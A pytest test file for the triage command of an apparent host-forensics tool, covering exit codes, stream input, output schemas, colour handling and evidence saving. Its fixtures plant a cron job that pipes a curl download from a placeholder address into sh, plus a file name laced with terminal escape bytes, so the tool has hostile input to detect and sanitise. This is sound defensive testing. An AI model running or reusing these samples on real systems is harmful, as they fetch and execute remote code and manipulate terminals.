"""`hemostat triage`: sources, outputs, exit codes, and how it refuses."""

import io
import json
import os
import pty
import subprocess
import sys
import tarfile
from pathlib import Path

import pytest

from cli.conftest import ENVIRONMENT, PROGRAM, Hemostat
from hemostat.cli import triage
from hemostat.cli.triage import exit_code
from hemostat.model.coverage import CoverageEntry, Outcome
from hemostat.model.examination import Examination, PlaceCoverage
from hemostat.model.failure import Failure
from hemostat.model.level import Level
from hemostat.model.path import HostPath
from hemostat.model.text import Text
from hemostat.store.save import SavedSummary
from hemostat.trees.host_tree import Entry, HostTree
from made_host import hurt_host, make_host
from made_roots import put
from report.made import claim, examination, rule
from report.test_result_json import valid

BLIND = "/etc/sudoers"


@pytest.fixture
def quiet(tmp_path: Path) -> str:
    return str(make_host(tmp_path / "quiet"))


@pytest.fixture
def hurt(tmp_path: Path) -> str:
    return str(hurt_host(tmp_path / "hurt"))


@pytest.fixture
def blind(tmp_path: Path) -> str:
    """A quiet host of which a place that matters cannot be read: it is no plain file."""
    os.mkfifo(Path(make_host(tmp_path / "blind")) / BLIND[1:])
    return str(tmp_path / "blind")


def tar_of(root: str) -> bytes:
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode="w") as tar:
        tar.add(root, arcname=".")
    return out.getvalue()


# -- exit codes -----------------------------------------------------------------------------------


@pytest.mark.requirement("B5.1")
def test_the_exit_code_is_that_of_the_worst_source(
    hemostat: Hemostat, quiet: str, hurt: str, blind: str
) -> None:
    assert hemostat("triage", quiet).code == 0
    assert hemostat("triage", hurt).code == 1
    assert hemostat("triage", blind).code == 3
    assert hemostat("triage", quiet, blind, quiet).code == 3
    assert hemostat("triage", blind, hurt).code == 1


@pytest.mark.requirement("B5.3")
def test_what_could_not_be_looked_at_is_named_and_nothing_is_called_clean(
    hemostat: Hemostat, blind: str
) -> None:
    out = hemostat("triage", blind, "-v").out
    assert BLIND in out
    assert "could not look at" in out
    assert "clean" not in out.lower()


def test_the_minimum_level_rules_screen_and_exit_code_but_never_the_findings_file(
    hemostat: Hemostat, tmp_path: Path
) -> None:
    root = make_host(tmp_path / "root")
    put(root, "/etc/cron.d/x", b"@daily root /opt/gone/run\n")
    lines = tmp_path / "found.jsonl"
    low = hemostat("triage", str(root), "--min-level", "info", "--findings", str(lines))
    first = lines.read_bytes()
    high = hemostat("triage", str(root), "--min-level", "high", "--findings", str(lines))
    assert (low.code, high.code) == (1, 0)
    assert "/opt/gone/run" in low.out
    assert "/opt/gone/run" not in high.out
    assert first.count(b"\n") > 0
    assert lines.read_bytes() == first * 2


@pytest.mark.parametrize("level", [Level.MEDIUM, Level.CRITICAL])
def test_findings_count_from_the_minimum_level_on(level: Level) -> None:
    made = examination((rule(level=Level.HIGH), claim()), coverage=())
    assert exit_code(made, level) == (1 if level is Level.MEDIUM else 0)


def entry(artifact: str) -> PlaceCoverage:
    hole = CoverageEntry(artifact, HostPath("/x"), Outcome.FAILED, "interrupted")
    return PlaceCoverage(artifact, Text("t", "t"), True, (hole,))


@pytest.mark.parametrize(
    ("examined", "code"),
    [
        (examination(coverage=()), 0),
        (examination(coverage=(), is_complete=False), 3),
        (examination(coverage=(entry("linux.cron.system"),)), 3),
        (examination((rule(), claim()), coverage=(entry("linux.cron.system"),)), 1),
        (examination((rule(), claim()), coverage=(entry("run"),)), 130),
    ],
)
def test_findings_outrank_holes_and_ctrl_c_outranks_both(examined: Examination, code: int) -> None:
    assert exit_code(examined, Level.MEDIUM) == code


def test_ctrl_c_prints_the_partial_result_marked_so(
    hemostat: Hemostat, hurt: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    tree = triage.open_tree(hurt)
    scandir = tree.scandir

    def interrupted(path: bytes) -> tuple[Entry, ...] | Failure:
        if path == b"/home":
            raise KeyboardInterrupt
        return scandir(path)

    monkeypatch.setattr(tree, "scandir", interrupted)
    monkeypatch.setattr(triage, "open_tree", lambda *_: tree)
    ended = hemostat("triage", hurt, "--json")
    result = json.loads(ended.raw)
    assert valid(result, "triage-1")
    assert ended.code == 130
    assert result["host"]["is_complete"] is False
    assert {"linux.accounts.second-uid-0"} <= {each["rule"] for each in result["findings"]}


# -- sources --------------------------------------------------------------------------------------


@pytest.mark.requirement("A4.12")
def test_a_stream_gives_the_same_findings_as_the_folder(
    hemostat: Hemostat, hurt: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(sys, "stdin", io.TextIOWrapper(io.BytesIO(tar_of(hurt))))
    (tmp_path / "spool").mkdir()
    stream = hemostat("triage", "-", "--json", "--spool", str(tmp_path / "spool"))
    folder = hemostat("triage", hurt, "--json")
    ids = [[each["id"] for each in json.loads(ended.raw)["findings"]] for ended in (stream, folder)]
    assert ids[0] == ids[1]
    assert stream.code == 1
    assert list((tmp_path / "spool").iterdir()) == []


def test_what_is_no_host_is_wrong_use_and_says_what_would_be_one(
    hemostat: Hemostat, tmp_path: Path
) -> None:
    file = tmp_path / "notes.txt"
    file.write_text("hello")
    for source in (str(file), str(tmp_path / "nix"), str(tmp_path)):
        ended = hemostat("triage", source)
        assert (ended.code, ended.raw) == (2, b"")
        assert source in ended.err
        assert (
            "folder or mounted disk holding a host's root" in ended.err
            or "Name the folder" in ended.err
        )


@pytest.mark.parametrize(
    ("arguments", "reason"),
    [
        (["--save", "x", "/"], "leave the source out"),
        (["--save", "-", "--json"], "give --save a folder"),
        (["-", "-"], "name - once"),
        (["--host", "a", "/", "/"], "one by one"),
    ],
)
def test_options_that_contradict_each_other_are_refused_before_anything_is_read(
    hemostat: Hemostat, arguments: list[str], reason: str
) -> None:
    ended = hemostat("triage", *arguments)
    assert (ended.code, ended.raw) == (2, b"")
    assert reason in ended.err


# -- outputs --------------------------------------------------------------------------------------


@pytest.mark.requirement("B5.1")
def test_json_and_findings_hold_to_the_published_schemas(
    hemostat: Hemostat, hurt: str, tmp_path: Path
) -> None:
    lines = tmp_path / "found.jsonl"
    ended = hemostat("triage", hurt, "--json", "--host", "db-7", "--findings", str(lines))
    result = json.loads(ended.raw)
    assert valid(result, "triage-1")
    written = [json.loads(line) for line in lines.read_bytes().splitlines()]
    assert all(valid(each, "finding-1") for each in written)
    assert [each["id"] for each in written] == [each["id"] for each in result["findings"]]
    assert result["host"]["id"] == "db-7"
    assert len(written) > 3


def test_texts_follow_the_language_and_ids_do_not(hemostat: Hemostat, hurt: str) -> None:
    english, chinese = (
        json.loads(hemostat("triage", hurt, "--json", "--lang", each).raw)["findings"]
        for each in ("en", "zh")
    )
    assert [each["id"] for each in english] == [each["id"] for each in chinese]
    assert english[0]["title"] != chinese[0]["title"]
    assert "本机已被入侵" in hemostat("triage", hurt, "--lang", "zh").out


def test_a_findings_file_that_cannot_be_written_is_wrong_use(
    hemostat: Hemostat, quiet: str, tmp_path: Path
) -> None:
    ended = hemostat("triage", quiet, "--findings", str(tmp_path))
    assert ended.code == 2
    assert "name a file that can be written" in ended.err


def test_a_broken_rule_is_named_and_the_rest_is_used(
    hemostat: Hemostat, hurt: str, tmp_path: Path
) -> None:
    rules = tmp_path / "rules"
    rules.mkdir()
    (rules / "broken.yml").write_text("title: [")
    (rules / "mine.yml").write_text(
        "title: Mine\nname: linux.test.mine\nid: 6f3f5a55-8a0a-4a0e-8f3f-0a4f4c9b7a01\n"
        "logsource: {product: linux, category: cron_job}\n"
        "detection:\n  a: {command|contains: 198.51.100.7}\n  condition: a\nlevel: high\n"
    )
    ended = hemostat("triage", hurt, "--json", "--rules", str(rules))
    assert "broken.yml" in ended.err
    assert "linux.test.mine" in {each["rule"] for each in json.loads(ended.raw)["findings"]}


def test_the_footprint_goes_to_standard_error(hemostat: Hemostat, quiet: str) -> None:
    plain, told = hemostat("triage", quiet), hemostat("triage", quiet, "--footprint")
    assert told.out == plain.out
    assert "/var/lib/dpkg" in told.err
    assert "/proc/PID" in told.err


def test_names_from_the_host_reach_the_screen_harmless(hemostat: Hemostat, tmp_path: Path) -> None:
    root = make_host(tmp_path)
    job = b"* * * * * root curl -s http://198.51.100.7/a | sh\n"
    put(root, os.fsdecode(b"/etc/cron.d/a\n\x1b[2J\xff\xe2\x80\xae"), job)
    ended = hemostat("triage", str(root), "-v")
    assert ended.code == 1
    assert all(line.isprintable() for line in ended.out.split("\n"))
    assert "\\x1b[2J" in ended.out


@pytest.mark.parametrize(("variable", "is_coloured"), [("", True), ("NO_COLOR", False)])
def test_colour_only_on_a_terminal_and_not_under_no_color(
    hurt: str, variable: str, is_coloured: bool
) -> None:
    ours, theirs = pty.openpty()
    try:
        environment = ENVIRONMENT | {"TERM": "xterm"} | ({variable: "1"} if variable else {})
        process = subprocess.Popen(
            [*PROGRAM, "triage", hurt], stdout=theirs, stderr=subprocess.DEVNULL, env=environment
        )
        os.close(theirs)
        shown = read_terminal(ours)
        assert process.wait() == 1
    finally:
        os.close(ours)
    assert b"backup" in shown
    # A style may stay (bold); colours are 30 to 37 and 90 to 97.
    assert (b"\x1b[1;3" in shown or b"\x1b[3" in shown) is is_coloured


def read_terminal(ours: int) -> bytes:
    shown = b""
    while True:
        try:
            shown += os.read(ours, 65536)
        except OSError:  # EIO: the other side is closed
            return shown


def test_off_a_terminal_there_is_no_escape(hemostat: Hemostat, hurt: str) -> None:
    assert b"\x1b" not in hemostat("triage", hurt).raw


# -- saving ---------------------------------------------------------------------------------------


def test_saving_on_the_suspects_own_disk_is_refused(hemostat: Hemostat, tmp_path: Path) -> None:
    if tmp_path.stat().st_dev != Path("/").stat().st_dev:
        pytest.skip("the folder for tests is not on the root disk")
    ended = hemostat("triage", "--save", str(tmp_path / "kept"))
    assert (ended.code, ended.raw) == (2, b"")
    assert "--save-here" in ended.err
    assert not (tmp_path / "kept").exists()


@pytest.mark.parametrize("problem", ["", "stopped early: No space left on device"])
def test_evidence_that_was_not_kept_is_told(
    hemostat: Hemostat,
    quiet: str,
    tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
    problem: str,
) -> None:
    def save_volatile(tree: HostTree, out: Path, *, allow_own_disk: bool) -> SavedSummary:
        assert allow_own_disk
        return SavedSummary(files=3, size=17, programs=0, processes=1, not_kept=0, problem=problem)

    monkeypatch.setattr("hemostat.store.save.save_volatile", save_volatile)
    tree = triage.open_tree(quiet)
    monkeypatch.setattr(triage, "open_tree", lambda *_: tree)
    monkeypatch.setattr(triage, "be_gentle", lambda _niceness: None)
    ended = hemostat("triage", "--save", str(tmp_path / "kept"), "--save-here")
    assert "3 files, 17 bytes" in ended.err
    assert ("not all volatile evidence was kept: stopped early" in ended.err) is bool(problem)
